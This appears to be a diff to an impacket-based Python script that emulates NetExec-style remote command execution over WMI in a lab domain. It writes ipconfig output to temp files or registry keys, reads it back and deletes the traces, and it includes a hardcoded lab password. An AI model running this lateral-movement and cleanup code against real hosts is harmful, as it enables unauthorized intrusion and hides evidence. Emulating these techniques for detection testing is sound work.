@@ -10,6 +10,8 @@ import io
 import sys
 
 from impacket.dcerpc.v5 import sasec, scmr, transport, tsch
+from impacket.dcerpc.v5.dcom import wmi
+from impacket.dcerpc.v5.dcomrt import DCOMConnection
 from impacket.dcerpc.v5.dtypes import NULL
 
 what, host = sys.argv[1:3]
@@ -110,6 +112,37 @@ def task_rights():
 def task_account():
     rpc, _ = pipe('atsvc', sasec.MSRPC_UUID_SASEC)
     sasec.hSASetAccountInformation(rpc, '\\\\' + host, 'nightly.job', 'LAB\\ssales', 'Winter2023!')
+
+
+def process_class():
+    connection = DCOMConnection(host, 'Administrator', password, 'LAB', oxidResolver=True)
+    login = wmi.IWbemLevel1Login(connection.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login))
+    services = login.NTLMLogin('//./root/cimv2', NULL, NULL)
+    login.RemRelease()
+    return connection, services, services.GetObject('Win32_Process')[0]
+
+
+def netexec_smb_wmi():
+    _, smb = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
+    connection, _, process = process_class()
+    output = '\\Windows\\Temp\\qZtbRk'
+    process.Create('cmd.exe /Q /c ipconfig 1> %s 2>&1' % output, 'C:\\', None)
+    smb.getFile('C$', output, lambda data: print(data))
+    smb.deleteFile('C$', output)
+    connection.disconnect()
+
+
+def netexec_wmi():
+    connection, services, process = process_class()
+    result, encoded = ('C:\\windows\\temp\\%s.txt' % name for name in ('3f1d2a4e-8b6c-4f0a-9d57-6c1e2b7a9f30', 'a7c4e1b9-52d8-4a63-8f1e-0d9b3c6e7a21'))
+    key, value = 'Software\\Classes\\xWqLpZ', '5b0e9c72-1f4a-4d83-b6e9-27a8c0d1f3e4'
+    process.Create('cmd.exe /Q /c  ipconfig 1> ' + result + ' 2>&1 && certutil -encodehex -f ' + result + ' ' + encoded +
+                   ' 0x40000001 && for /F "usebackq" %G in ("' + encoded + '") do reg add HKLM\\' + key + ' /v ' + value +
+                   ' /t REG_SZ /d "%G" /f && del /q /f /s ' + result + ' ' + encoded, 'C:\\', None)
+    registry = services.GetObject('StdRegProv')[0].SpawnInstance()
+    print(registry.GetStringValue(2147483650, key, value).sValue)
+    registry.DeleteKey(2147483650, key)
+    connection.disconnect()
 
 
 globals()[what]()
